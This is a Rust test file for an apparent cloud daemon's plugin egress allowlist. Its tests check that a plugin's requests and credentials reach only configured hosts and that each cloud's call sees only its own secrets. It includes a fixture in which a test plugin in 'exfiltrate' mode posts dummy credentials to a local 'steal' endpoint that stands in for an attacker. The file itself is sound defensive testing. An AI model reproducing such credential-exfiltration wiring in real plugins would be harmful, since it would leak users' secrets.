//! A driver's HTTP goes only where its cloud's configuration points: a hostile plugin that
//! tries to send its credentials elsewhere is refused before anything leaves the host, its
//! call fails with a message naming the config entry to add, and other locations answer.
//! Each call sees only its own cloud's configuration.
//!
//! "Elsewhere" is a second listener on 127.0.0.1 with another port: allowlist entries carry
//! ports, so it is as foreign as any host on the internet.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::sync::{Arc, Mutex};
use std::time::Duration;

use oaktree::plugin::egress::HostEgress;
use oaktree_simcloud::{SimCloudConfig, SimConfig, SimRegionConfig};
use oaktree_tests::proto::StatusKind;
use oaktree_tests::{World, built_plugin, list_request, status_at};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// A listener standing in for an attacker's server: it records every request it receives.
struct Trap {
    port: u16,
    received: Arc<Mutex<Vec<String>>>,
}

impl Trap {
    async fn start() -> Trap {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let received = Arc::new(Mutex::new(Vec::new()));
        let log = received.clone();
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let log = log.clone();
                tokio::spawn(async move {
                    let mut request = Vec::new();
                    let mut buffer = [0u8; 4096];
                    // Reads until the client pauses: enough for one small POST.
                    while let Ok(Ok(n)) =
                        tokio::time::timeout(Duration::from_millis(200), stream.read(&mut buffer))
                            .await
                    {
                        if n == 0 {
                            break;
                        }
                        request.extend_from_slice(&buffer[..n]);
                    }
                    log.lock()
                        .unwrap()
                        .push(String::from_utf8_lossy(&request).into_owned());
                    let _ = stream
                        .write_all(b"HTTP/1.1 204 No Content\r\ncontent-length: 0\r\n\r\n")
                        .await;
                });
            }
        });
        Trap { port, received }
    }

    fn received(&self) -> Vec<String> {
        self.received.lock().unwrap().clone()
    }
}

/// A faulty-driver cloud `spy` that sends its auth block to `trap`, plus `extra` lines
/// (indented four spaces) in its entry.
fn spy_cloud(trap: &Trap, extra: &str) -> String {
    format!(
        "  spy:\n    profile: faulty\n    faulty_mode: exfiltrate\n    \
         faulty_exfiltrate_to: http://127.0.0.1:{}/steal\n    auth:\n      \
         auth_url: http://127.0.0.1:9/identity\n      password: spy-secret\n    \
         regions: [one]\n{extra}",
        trap.port
    )
}

fn sim() -> SimConfig {
    SimConfig::new(vec![SimCloudConfig::new(
        "alpha",
        vec![SimRegionConfig::new("one")],
    )])
}

#[tokio::test]
async fn credentials_sent_outside_the_allowlist_never_leave_and_the_call_names_the_fix() {
    let trap = Trap::start().await;
    let world = World::start_full(
        sim(),
        &spy_cloud(&trap, ""),
        &[built_plugin("faulty")],
        |_| {},
    )
    .await
    .unwrap();
    let mut client = world.client().await;

    let reply = client
        .list_networks(list_request(&[], &[], ""))
        .await
        .unwrap()
        .into_inner();

    let spy = status_at(&reply.statuses, "spy/one");
    assert_eq!(spy.kind(), StatusKind::Forbidden, "{}", spy.message);
    let entry = format!(
        "add `allowed_hosts: [127.0.0.1:{}]` to cloud `spy` in clouds.yaml",
        trap.port
    );
    assert!(spy.message.contains(&entry), "{}", spy.message);
    assert!(
        spy.message.contains("allowed: 127.0.0.1:9"),
        "{}",
        spy.message
    );
    assert_eq!(
        status_at(&reply.statuses, "alpha/one").kind(),
        StatusKind::Ok
    );
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(
        trap.received().is_empty(),
        "the trap got {:?}",
        trap.received()
    );
    let metrics = world
        .daemon
        .federation
        .registry()
        .runtime()
        .metrics()
        .render();
    assert!(
        metrics
            .lines()
            .any(|line| line.starts_with("oaktree_http_requests_total")
                && line.contains("cloud=\"spy\"")
                && line.contains("outcome=\"denied\"")),
        "{metrics}"
    );
}

#[tokio::test]
async fn an_allowed_hosts_entry_in_clouds_yaml_lets_the_request_through() {
    let trap = Trap::start().await;
    let extra = format!("    allowed_hosts: [\"127.0.0.1:{}\"]\n", trap.port);
    let world = World::start_full(
        sim(),
        &spy_cloud(&trap, &extra),
        &[built_plugin("faulty")],
        |_| {},
    )
    .await
    .unwrap();
    let mut client = world.client().await;

    let reply = client
        .list_networks(list_request(&["spy"], &[], ""))
        .await
        .unwrap()
        .into_inner();

    assert_eq!(
        reply.statuses[0].kind(),
        StatusKind::Ok,
        "{}",
        reply.statuses[0].message
    );
    let received = trap.received();
    assert_eq!(received.len(), 1, "{received:?}");
    // Proof that the trap would have caught the credentials had the host let them go.
    assert!(received[0].contains("spy-secret"), "{}", received[0]);
}

#[tokio::test]
async fn an_egress_entry_in_the_daemon_config_lets_the_request_through() {
    let trap = Trap::start().await;
    let port = trap.port;
    let world = World::start_full(
        sim(),
        &spy_cloud(&trap, ""),
        &[built_plugin("faulty")],
        |host| {
            host.egress = vec![HostEgress {
                cloud: "sp*".into(),
                region: "*".into(),
                allowed_hosts: vec![format!("127.0.0.1:{port}")],
            }];
        },
    )
    .await
    .unwrap();
    let mut client = world.client().await;

    let reply = client
        .list_networks(list_request(&["spy"], &[], ""))
        .await
        .unwrap()
        .into_inner();

    assert_eq!(
        reply.statuses[0].kind(),
        StatusKind::Ok,
        "{}",
        reply.statuses[0].message
    );
    assert_eq!(trap.received().len(), 1);
}

#[tokio::test]
async fn each_call_sees_only_its_own_clouds_credentials() {
    let clouds = "  red:\n    profile: faulty\n    faulty_mode: reveal\n    auth:\n      \
                  auth_url: http://127.0.0.1:9/identity\n      password: red-secret\n    \
                  regions: [one, two]\n  \
                  blue:\n    profile: faulty\n    faulty_mode: reveal\n    auth:\n      \
                  auth_url: http://127.0.0.1:9/identity\n      password: blue-secret\n    \
                  regions: [one]\n";
    let world = World::start_full(sim(), clouds, &[built_plugin("faulty")], |_| {})
        .await
        .unwrap();
    let alpha_password = world.sim.config().clouds[0].password.clone();
    let mut client = world.client().await;

    let reply = client
        .list_networks(list_request(&["red", "blue"], &[], ""))
        .await
        .unwrap()
        .into_inner();

    for (location, own, others) in [
        (
            "red/one",
            "red-secret",
            ["blue-secret", alpha_password.as_str()],
        ),
        (
            "red/two",
            "red-secret",
            ["blue-secret", alpha_password.as_str()],
        ),
        (
            "blue/one",
            "blue-secret",
            ["red-secret", alpha_password.as_str()],
        ),
    ] {
        let seen = &status_at(&reply.statuses, location).message;
        // Quoted, as JSON strings: the simulator's password may be a substring of ours.
        let quoted = |secret: &str| format!("\"{secret}\"");
        assert!(
            seen.contains(&quoted(own)),
            "{location} did not get its own config: {seen}"
        );
        for secret in others {
            assert!(
                !seen.contains(&quoted(secret)),
                "{location} saw {secret}: {seen}"
            );
        }
    }
}
